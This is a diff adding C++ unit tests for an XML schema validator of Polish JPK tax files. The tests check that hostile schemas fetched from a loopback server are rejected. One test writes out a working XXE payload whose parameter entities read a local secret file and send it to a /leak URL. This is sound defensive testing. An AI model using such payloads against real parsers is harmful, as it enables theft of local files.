@@ -266,3 +266,67 @@ TEST_F(Validator, SchemaFetchedOverHttpAndImportsFromTheCache)
 }
 
 } // namespace
+
+namespace {
+
+TEST_F(Validator, AHostileSchemaReadsNothingSendsNothingAndValidatesNothing)
+{
+    // No schema beside the program: the address comes from the document itself.
+    TempHome served;
+    home.write(QStringLiteral("secret.txt"), "tajne hasło");
+    LoopbackServer server(served.path());
+    ASSERT_GT(server.port(), 0) << "python3 http.server did not start";
+    const QString port = QString::number(server.port());
+    const QByteArray anything = "<xs:element name=\"JPK\"><xs:complexType><xs:sequence>"
+                                "<xs:any processContents=\"skip\" minOccurs=\"0\" maxOccurs=\"unbounded\"/>"
+                                "</xs:sequence><xs:anyAttribute processContents=\"skip\"/></xs:complexType></xs:element>";
+    const QByteArray open = "<xs:schema xmlns:xs=\"http://www.w3.org/2001/XMLSchema\" targetNamespace=\""
+                            + kJpkNamespace.toUtf8() + "\" elementFormDefault=\"qualified\">";
+    // a DTD whose parameter entities read a local file and send it out in a second request
+    served.write(QStringLiteral("dtd.xsd"),
+                 QByteArray("<?xml version=\"1.0\"?>\n<!DOCTYPE xs:schema [\n<!ENTITY % file SYSTEM \"file://"
+                     + home.file(QStringLiteral("secret.txt")).toUtf8()
+                     + "\">\n<!ENTITY % eval \"<!ENTITY &#x25; leak SYSTEM 'http://127.0.0.1:" + port.toUtf8()
+                     + "/leak?%file;'>\">\n%eval;\n%leak;\n]>\n" + open + anything + "</xs:schema>\n"));
+    // a schema without a DTD that includes a file that is no schema
+    served.write(QStringLiteral("include.xsd"), QByteArray("<?xml version=\"1.0\"?>\n" + open
+                                                    + "<xs:include schemaLocation=\"http://127.0.0.1:" + port.toUtf8()
+                                                    + "/notes.txt\"/>" + anything + "</xs:schema>\n"));
+    served.write(QStringLiteral("notes.txt"), "<xs:schema xmlns:xs=\"http://www.w3.org/2001/XMLSchema\"/>");
+    // not a schema at all
+    served.write(QStringLiteral("page.xsd"), "<html><body>404</body></html>");
+
+    QFile sample(kSamples + QStringLiteral("/minimal_valid.xml"));
+    ASSERT_TRUE(sample.open(QIODevice::ReadOnly));
+    const QByteArray text = sample.readAll();
+    for (const char *name : {"dtd.xsd", "include.xsd", "page.xsd"}) {
+        const QString address = server.url(QString::fromLatin1(name));
+        QByteArray hinted = text;
+        hinted.replace("<JPK xmlns=", QByteArray("<JPK xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\""
+                                                     + kJpkNamespace.toUtf8() + ' ' + address.toUtf8() + "\" xmlns="));
+        home.write(QStringLiteral("JPK_FA4.xml"), hinted);
+        const Outcome o = validate(home, home.file(QStringLiteral("JPK_FA4.xml")));
+        EXPECT_FALSE(o.valid) << name;
+        ASSERT_FALSE(o.messages.isEmpty()) << name;
+        EXPECT_EQ(o.messages.first().caption, QStringLiteral("Błąd weryfikatora")) << name;
+        EXPECT_EQ(server.requests().last(), QStringLiteral("/") + QString::fromLatin1(name))
+            << name << ": nothing but the schema was asked for";
+        if (QByteArray(name) != "include.xsd")  // that one is a schema: its include is what is refused
+            EXPECT_FALSE(QFile::exists(SchemaLocator::instance().cacheFileFor(address))) << name << ": only schemas are cached";
+    }
+    for (const QString &path : server.requests())
+        EXPECT_FALSE(path.startsWith(QStringLiteral("/leak")) || path.startsWith(QStringLiteral("/notes"))) << path.toStdString();
+}
+
+TEST_F(Validator, ADocumentDeclaringEntitiesIsRefusedHonestly)
+{
+    installSchemas(home);
+    home.write(QStringLiteral("ent.xml"), "<?xml version=\"1.0\"?>\n<!DOCTYPE JPK [<!ENTITY y \"yyy\">]>\n<JPK>&y;</JPK>\n");
+    const Outcome o = validate(home, home.file(QStringLiteral("ent.xml")));
+    EXPECT_FALSE(o.valid);
+    ASSERT_FALSE(o.messages.isEmpty());
+    EXPECT_TRUE(o.messages.first().text.contains(QStringLiteral("Plik zawiera deklaracje DTD, których program nie przyjmuje")))
+        << o.messages.first().text.toStdString();
+}
+
+} // namespace
